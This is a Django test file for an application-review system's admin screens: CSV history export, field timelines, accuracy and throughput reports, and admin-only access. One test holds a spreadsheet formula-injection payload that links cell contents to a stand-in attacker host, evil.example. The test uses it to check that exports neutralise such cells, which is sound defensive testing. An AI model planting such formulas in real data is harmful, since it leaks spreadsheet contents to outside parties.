"""The admin's screens: the history as CSV, one value's timeline, accuracy, throughput and cost."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from applications.models import Application
from extraction.models import ExtractionRun
from review.reports import field_accuracy, throughput
from review.services import application_decide, field_correct
from review.versions import application_version

from .conftest import build_document, confirm_as_applicant


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_csv_export_holds_what_the_filters_show(
    client_for, auditor, applicant, document, submitted
):
    gross = document.fields.get(key="gross_pay")
    field_correct(field=gross, value="4,100.00", actor=applicant, reason="Bonus left out.")
    response = client_for(auditor).get(
        reverse("revision_history_export"),
        {"application_reference": document.application.reference, "role": "applicant"},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(response)
    assert len(rows) == 1
    row = rows[0]
    assert (row["field_key"], row["from"], row["to"], row["reason"]) == (
        "gross_pay",
        "$4,250.00",
        "4,100.00",
        "Bonus left out.",
    )
    assert row["actor"] == applicant.email and row["revision"] == "2"


def test_csv_export_masks_sensitive_values(client_for, auditor, document):
    rows = _csv(
        client_for(auditor).get(reverse("revision_history_export"), {"field_key": "employee_ssn"})
    )
    assert rows and all("123-45-6789" not in row["to"] for row in rows)


def test_csv_export_neutralises_formula_cells(client_for, auditor, applicant, document, submitted):
    """Cells an applicant controls that a spreadsheet would run as formulas come out as text."""
    gross = document.fields.get(key="gross_pay")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    field_correct(field=gross, value="4,100.00", actor=applicant, reason=formula)

    rows = _csv(
        client_for(auditor).get(reverse("revision_history_export"), {"field_key": "gross_pay"})
    )

    row = next(row for row in rows if row["role"] == "applicant")
    assert row["reason"] == "'" + formula
    assert row["to"] == "4,100.00"


def test_only_admins_export_or_see_timelines_and_reports(client_for, reviewer, applicant, document):
    field = document.fields.first()
    for user in (reviewer, applicant):
        client = client_for(user)
        for url in (
            reverse("revision_history_export"),
            reverse("field_timeline", args=[field.pk]),
            reverse("accuracy_report"),
            reverse("throughput_report"),
        ):
            assert client.get(url).status_code == 403, (user, url)


def test_the_timeline_tells_a_values_story_with_reasons(
    client_for, auditor, applicant, reviewer, submitted
):
    field = submitted.documents.get().fields.get(key="gross_pay")
    field_correct(field=field, value="4,000.00", actor=reviewer, reason="Per HR letter.")
    page = client_for(auditor).get(reverse("field_timeline", args=[field.pk])).content.decode()
    assert page.index("Machine") < page.index("Reviewer")
    assert "$4,250.00" in page and "4,000.00" in page and "Per HR letter." in page
    assert "Hash chain verified" not in page and "full verification" in page


@pytest.fixture
def approved(applicant, reviewer):
    """An approved application whose gross pay the applicant corrected, read by "local"."""
    from tests.factories import ApplicationFactory

    application = ApplicationFactory(owner=applicant)
    document, _, fields = build_document(application)
    ExtractionRun.objects.create(
        document=document, provider="local", model="rules-v1", outcome="ok", cost=Decimal("0.02")
    )
    field_correct(field=fields[1], value="4,100.00", actor=applicant)
    confirm_as_applicant([fields[0], fields[2]])
    Application.objects.filter(pk=application.pk).update(
        status=Application.Status.IN_REVIEW, submitted_at=timezone.now()
    )
    application.refresh_from_db()
    application_decide(
        application=application,
        version=application_version(application=application),
        reviewer=reviewer,
        kind="approve",
    )
    return application


def test_accuracy_counts_corrections_by_field_and_provider(approved, reviewer):
    rows = {row.field_key: row for row in field_accuracy()}
    assert rows["gross_pay"].by_applicant == 1 and rows["gross_pay"].by_reviewer == 0
    assert (rows["gross_pay"].provider, rows["gross_pay"].model) == ("local", "rules-v1")
    assert rows["pay_date"].corrected == 0
    assert next(iter(field_accuracy())).field_key == "gross_pay"  # most corrected first


def test_accuracy_page_draws_an_svg_chart(client_for, auditor, approved):
    page = client_for(auditor).get(reverse("accuracy_report")).content.decode()
    assert "<svg" in page and "Gross pay" in page and "local" in page


def test_throughput_counts_documents_time_and_cost(approved):
    today = timezone.localdate()
    report = throughput(date_from=today - timedelta(days=6), date_to=today)
    assert report.days[-1]["documents"] == 1
    assert report.decided == 1
    assert report.cost_per_application == Decimal("0.02")
    assert report.median_hours_to_decision is not None


def test_throughput_page_shows_the_figures(client_for, auditor, approved):
    page = client_for(auditor).get(reverse("throughput_report")).content.decode()
    assert "$0.0200" in page and "<svg" in page


def test_reports_run_a_constant_number_of_queries(
    client_for, auditor, approved, django_assert_max_num_queries
):
    client = client_for(auditor)
    with django_assert_max_num_queries(12):
        client.get(reverse("accuracy_report"))
    with django_assert_max_num_queries(12):
        client.get(reverse("throughput_report"))
    with django_assert_max_num_queries(12):
        response = client.get(reverse("revision_history_export"))
        b"".join(response.streaming_content)


def test_filtered_queue_and_timeline_run_a_constant_number_of_queries(
    client_for, reviewer, auditor, django_assert_max_num_queries
):
    from tests.factories import FlagFactory, SubmittedApplicationFactory

    for _ in range(6):
        application = SubmittedApplicationFactory()
        build_document(application)
        FlagFactory(application=application)
    field = application.documents.get().fields.first()
    reviewer_client, auditor_client = client_for(reviewer), client_for(auditor)
    with django_assert_max_num_queries(10):
        response = reviewer_client.get(
            reverse("review_queue"), {"severity": "high", "document_type": "pay_stub"}
        )
    assert response.content.decode().count("1 high") == 6
    with django_assert_max_num_queries(8):
        auditor_client.get(reverse("field_timeline", args=[field.pk]))
